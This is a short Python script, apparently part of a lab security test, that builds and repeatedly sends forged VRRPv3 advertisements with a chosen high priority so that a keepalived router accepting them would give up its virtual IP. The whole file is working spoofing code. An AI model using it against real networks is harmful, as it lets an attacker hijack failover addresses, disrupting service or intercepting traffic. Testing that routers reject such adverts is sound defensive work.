#!/usr/bin/env python3
"""Sends forged VRRPv3 adverts (RFC 5798) claiming a virtual router with a high priority.

For the security test "VRRP only from the peer": run inside the lab-client namespace; a keepalived that
accepted these would give up its VIP (the forged priority beats any configured one).

  forge-vrrp.py SRC DST VRID PRIORITY VIP [COUNT] [INTERVAL]
"""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(src: str, dst: str, vrid: int, priority: int, vip: str, centiseconds: int = 30) -> bytes:
    body = struct.pack("!BBBBH", 0x31, vrid, priority, 1, centiseconds & 0x0FFF) + b"\0\0" + socket.inet_aton(vip)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 112, len(body))
    value = checksum(pseudo + body)
    return body[:6] + struct.pack("!H", value) + body[8:]


def main() -> None:
    src, dst, vrid, priority, vip = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    count = int(sys.argv[6]) if len(sys.argv) > 6 else 30
    interval = float(sys.argv[7]) if len(sys.argv) > 7 else 0.1
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.bind((src, 0))
    packet = advert(src, dst, vrid, priority, vip)
    for _ in range(count):
        sock.sendto(packet, (dst, 0))
        time.sleep(interval)


if __name__ == "__main__":
    main()
